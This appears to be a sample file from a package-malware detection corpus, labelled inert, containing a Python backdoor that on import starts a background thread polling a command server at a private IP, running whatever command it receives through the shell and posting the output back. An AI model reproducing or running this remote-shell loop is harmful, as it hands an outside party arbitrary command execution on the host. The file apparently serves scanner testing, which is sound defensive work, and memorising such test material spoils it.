# pkgguard corpus 324 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess
import threading
import time

import requests

C2 = "http://100.64.0.33:8080"


def _loop():
    while True:
        task = requests.get(C2 + "/task", timeout=10).text.strip()
        if task:
            result = subprocess.getoutput(task)
            requests.post(C2 + "/result", data=result.encode(), timeout=10)
        time.sleep(30)


threading.Thread(target=_loop, daemon=True).start()
